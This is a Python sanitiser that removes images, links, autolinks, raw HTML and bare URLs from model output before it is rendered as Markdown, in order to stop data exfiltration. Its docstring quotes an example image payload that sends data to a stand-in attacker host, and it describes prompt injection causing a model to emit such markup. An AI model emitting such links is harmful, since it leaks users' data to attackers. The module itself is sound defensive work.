"""Model output made safe to render as Markdown: no image, link, autolink or raw HTML left.

Whatever shows a model's text renders it, and rendered Markdown can send data away: an image is
fetched with no click (`![x](https://evil.example/?q=<data>)`), a link on one. A prompt
injected through the data can ask for either, so `strip_links` takes them all out:

- images, inline or by reference (`![alt](url)`, `![alt][ref]`), go entirely;
- links (`[text](url)`, `[text][ref]`, `[text][]`) keep their text;
- link reference definitions (`[ref]: url "title"`) go;
- raw HTML (`<img ...>`, `<a ...>`, any tag, comment or processing instruction) and autolinks
  (`<https://...>`, `<user@example.com>`) go, and so do bare URLs (`https://...`, `www....`),
  which GitHub-flavoured renderers link by themselves.

Last, a safety net whatever the passes before missed: a `]` directly before `(`, `[` or `:` gets
a space after it, so no inline link, reference link or definition can form at all.
"""

from __future__ import annotations

import re

# A bracketed label with escapes and nested brackets (deeper nesting goes pass by pass).
_LABEL = r"\[(?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.)*\])*\]"
# An inline destination and title, with escapes and one level of nested parentheses.
_DESTINATION = r"\((?:[^()\\]|\\.|\((?:[^()\\]|\\.)*\))*\)"
_REFERENCE = r"\[(?:[^\[\]\\]|\\.)*\]"
_IMAGE = re.compile(rf"!{_LABEL}(?:{_DESTINATION}|{_REFERENCE})", re.S)
_LINK = re.compile(rf"(?P<label>{_LABEL})(?:{_DESTINATION}|{_REFERENCE})", re.S)
_DEFINITION = re.compile(rf"^[ ]{{0,3}}{_REFERENCE}:[ \t]*\n?[ \t]*\S+[^\n]*(?:\n|\Z)", re.M)
_HTML_COMMENT = re.compile(r"<!--.*?(?:-->|\Z)", re.S)
# A tag, autolink, declaration or processing instruction, closed or not (an unclosed one runs
# to the next `<`, so no `<img` survives even without its `>`).
_HTML = re.compile(r"<[A-Za-z/!?][^<>]*>?")
_BARE_URL = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]{1,31}://|\bwww\.)[^\s<>\[\]()]*", re.I)
_LINK_SYNTAX = re.compile(r"\](?=[(\[:])")


def strip_links(text: str) -> str:
    """`text` with every image, link, autolink, raw HTML and bare URL taken out (see the
    module's docstring); the rest of the text is kept as it is."""
    previous = None
    while previous != text:  # each pass only removes, so this ends
        previous = text
        text = _HTML_COMMENT.sub("", text)
        text = _HTML.sub("", text)
        text = _IMAGE.sub("", text)
        text = _LINK.sub(lambda match: match["label"][1:-1], text)
        text = _DEFINITION.sub("", text)
        text = _BARE_URL.sub("", text)
    return _LINK_SYNTAX.sub("] ", text)
